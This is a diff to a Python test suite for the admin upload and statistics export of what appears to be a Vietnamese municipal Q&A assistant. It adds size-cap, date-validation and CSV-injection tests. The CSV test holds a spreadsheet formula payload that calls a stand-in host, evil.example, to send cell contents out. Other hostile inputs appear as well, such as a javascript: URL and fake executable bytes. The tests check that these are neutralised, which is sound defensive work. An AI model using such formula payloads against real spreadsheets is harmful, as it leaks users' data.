@@ -5,12 +5,11 @@ import io
 import pytest
 from fastapi.testclient import TestClient
 
-from channels.web import admin
 from channels.web.app import create_app
 from hoidap.config import Settings
 from hoidap.wiring import open_hoidap
 
-TOKEN = "bi-mat-cua-so"
+TOKEN = "bi-mat-cua-so-tu-phap"
 DOC = """KẾ HOẠCH
 Triển khai thử nghiệm trợ lý số cho xã Bình Minh
 
@@ -19,8 +18,9 @@ I. MỤC ĐÍCH
 """
 
 
-def make_client(tmp_path, token=TOKEN) -> TestClient:
-    settings = Settings(data_dir=tmp_path / "data", embedder="none", admin_token=token, rate_limit_per_minute=1000)
+def make_client(tmp_path, token=TOKEN, **overrides) -> TestClient:
+    settings = Settings(data_dir=tmp_path / "data", embedder="none", admin_token=token, rate_limit_per_minute=1000,
+                        **overrides)
     return TestClient(create_app(open_hoidap(settings)))
 
 
@@ -78,7 +78,7 @@ def test_upload_with_metadata_then_answer_then_remove(client):
     assert not list((data_dir / "uploads").iterdir()) and not (data_dir / "files" / "ke-hoach-binh-minh.txt").exists()
 
 
-def test_upload_rejects_bad_files_clearly(client, monkeypatch):
+def test_upload_rejects_bad_files_clearly(client):
     r = upload(client, "virus.exe", b"MZ\x90\x00")
     assert r.status_code == 415 and "Định dạng không hỗ trợ" in r.text
     r = upload(client, "hong.pdf", b"%PDF-1.4 not really a pdf")
@@ -87,11 +87,17 @@ def test_upload_rejects_bad_files_clearly(client, monkeypatch):
     assert r.status_code == 400
     r = upload(client, "a.txt", DOC.encode(), source_url="javascript:alert(1)")
     assert r.status_code == 400 and "http" in r.text
-    monkeypatch.setattr(admin, "MAX_UPLOAD_BYTES", 1000)
+    r = upload(client, "a.txt", DOC.encode(), date_iso="2026-13-01")
+    assert r.status_code == 400 and "Ngày ban hành không hợp lệ" in r.text and "month" not in r.text
+
+
+def test_upload_size_is_capped(tmp_path):
+    client = make_client(tmp_path, max_upload_bytes=1000)
+    client.headers["Authorization"] = f"Bearer {TOKEN}"
     r = upload(client, "to.txt", b"a" * 2000)
-    assert r.status_code == 413 and "Tệp quá lớn" in r.text
-    r = upload(client, "rat-to.txt", b"a" * 200_000)  # refused from Content-Length, before parsing
-    assert r.status_code == 413
+    assert r.status_code == 413 and "Tệp quá lớn (tối đa" in r.text
+    r = upload(client, "rat-to.txt", b"a" * 200_000)  # refused by the body cap, before parsing
+    assert r.status_code == 413 and r.json() == {"detail": "Nội dung gửi lên quá lớn."}
 
 
 def test_upload_path_tricks_stay_inside_uploads(client):
@@ -132,6 +138,22 @@ def test_statistics_page_and_csv_exports(client):
     assert feedback[1][1] == "👎" and "0912345678" not in feedback[1][2]
     assert client.get("/admin/stats.csv?kind=khac").status_code == 400
     assert client.get("/admin/stats?start=2026-13-01").status_code == 400
+
+
+def test_csv_cells_cannot_become_formulas(client):
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+    answer = client.post("/api/ask", json={"question": attack}).json()
+    for comment in ["+1 ý kiến", "-2+3", "@SUM(1+1)", "bình thường"]:
+        client.post("/api/feedback", json={"answer_id": answer["answer_id"], "rating": 1, "comment": comment})
+
+    def cells(kind):
+        text = client.get(f"/admin/stats.csv?kind={kind}").text.lstrip("\ufeff")
+        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+    assert "'" + attack.lower() in cells("unanswered") and attack.lower() not in cells("unanswered")
+    comments = cells("feedback")
+    assert {"'+1 ý kiến", "'-2+3", "'@SUM(1+1)", "bình thường"} <= set(comments)
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in comments + cells("unanswered"))
 
 
 def test_curated_answers_are_managed_and_answer_citizens(client):
